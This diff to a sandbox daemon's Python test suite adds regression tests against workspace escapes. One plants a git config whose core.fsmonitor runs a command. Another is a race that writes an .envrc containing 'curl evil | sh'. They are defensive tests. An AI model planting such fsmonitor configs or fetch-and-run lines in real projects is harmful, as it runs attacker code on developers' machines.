@@ -466,6 +466,24 @@ class ViewThroughDaemon(unittest.TestCase):
         shutil.rmtree(os.path.join(self.d.workspace, ".gd"), ignore_errors=True)
         for n in aside:
             os.unlink(os.path.join(self.d.workspace, n))
+        # s37 attack on that fix: the root itself made into a git directory
+        # (HEAD, objects/, refs/, a config with core.worktree and fsmonitor).
+        marker = os.path.join(self.d.tmp, "fsmonitor-ran")
+        resp, out, err = self.call([["sh", "-c", "mkdir -p objects/info objects/pack refs/heads "
+                                                 "&& echo 'ref: refs/heads/main' > HEAD && "
+                                                 "git config -f config core.worktree . && "
+                                                 "git config -f config core.fsmonitor "
+                                                 "'touch %s; false'" % marker]])
+        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], err)
+        self.assertFalse(os.path.lexists(os.path.join(self.d.workspace, "HEAD")))
+        r = subprocess.run(["git", "status"], cwd=self.d.workspace, capture_output=True,
+                           env=dict(os.environ, GIT_CEILING_DIRECTORIES=self.d.tmp))
+        self.assertNotEqual(r.returncode, 0, r.stdout)
+        self.assertFalse(os.path.exists(marker))
+        for n in os.listdir(self.d.workspace):
+            if n.startswith("HEAD.callgate-set-aside-") or n in ("objects", "refs", "config"):
+                p = os.path.join(self.d.workspace, n)
+                shutil.rmtree(p) if os.path.isdir(p) else os.unlink(p)
 
     def test_echo_tee_per_stage_terms(self):
         out_p = os.path.join(self.d.workspace, "out.txt")
@@ -784,16 +802,21 @@ class RepositoryInTheWorkspace(unittest.TestCase):
         # worktree's) .git file at a repository of its own with
         # core.fsmonitor set; the developer's git status at the root ran it.
         sub = os.path.join(self.ws, "sub")
-        os.makedirs(sub)
+        # As git writes and reads them: a quoted path, a key in capitals, a comment.
         with open(os.path.join(self.ws, ".gitmodules"), "w") as f:
-            f.write('[submodule "sub"]\n\tpath = sub\n\turl = ./sub.git\n')
-        with open(os.path.join(sub, ".git"), "w") as f:
-            f.write("gitdir: ../.git/modules/sub\n")
+            f.write('[submodule "sub"]\n\tpath = sub\n\turl = ./sub.git\n'
+                    '[submodule "a#b"]\n\tpath = "a#b"\n\turl = ./x.git\n'
+                    '[submodule "c"]\n\tPath = c ; third\n\turl = ./c.git\n')
+        for name in ("sub", "a#b", "c"):
+            os.makedirs(os.path.join(self.ws, name))
+            with open(os.path.join(self.ws, name, ".git"), "w") as f:
+                f.write("gitdir: ../.git/modules/%s\n" % name)
         subprocess.run(["git", "-C", self.ws, "worktree", "add", "-q", ".wt/feature", "-b",
                         "feature"], check=True, capture_output=True)
         wt = os.path.join(self.ws, ".wt", "feature", ".git")
         files = {}
-        for path in (os.path.join(sub, ".git"), wt):
+        for path in (os.path.join(sub, ".git"), os.path.join(self.ws, "a#b", ".git"),
+                     os.path.join(self.ws, "c", ".git"), wt):
             with open(path) as f:
                 files[path] = f.read()
         for path in files:
@@ -824,6 +847,32 @@ class RepositoryInTheWorkspace(unittest.TestCase):
         self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
         for name in (".pdbrc", ".jj", ".gemini"):
             self.assertFalse(os.path.lexists(os.path.join(self.ws, name)), name)
+
+    def test_a_call_cannot_keep_a_name_by_moving_another_calls_away(self):
+        # s37 attack on the fix above: call A made .envrc, B began and held
+        # it read-only, then A itself renamed it away (no sweep involved), and
+        # B wrote a fresh .envrc.
+        ready = os.path.join(self.ws, "a-made-it")
+        made = ("import os, time; open('.envrc', 'w').write('a'); "
+                "open('a-made-it', 'w').close(); time.sleep(1.5); "
+                "os.rename('.envrc', 'envrc.moved')")
+        # B writes once A has ended (so A's own sweep cannot take it).
+        again = ("import os, time; time.sleep(3); "
+                 "open('.envrc', 'w').write('curl evil | sh')")
+        box = {}
+        t = threading.Thread(target=lambda: box.update(a=self.run_call([PY, "-c", made])))
+        t.start()
+        for _ in range(200):
+            if os.path.exists(ready):
+                break
+            time.sleep(0.02)
+        b = self.run_call([PY, "-c", again])
+        t.join(60)
+        self.assertEqual([s["exit_code"] for s in b["stages"]], [0], b)
+        self.assertEqual([s["exit_code"] for s in box["a"]["stages"]], [0], box)
+        self.assertFalse(os.path.lexists(os.path.join(self.ws, ".envrc")),
+                         sorted(os.listdir(self.ws)))
+        self.assert_git_untouched()
 
     def test_nothing_but_git_runs_while_git_is_writable(self):
         # A nested repository's config is the call's to write; its fsmonitor
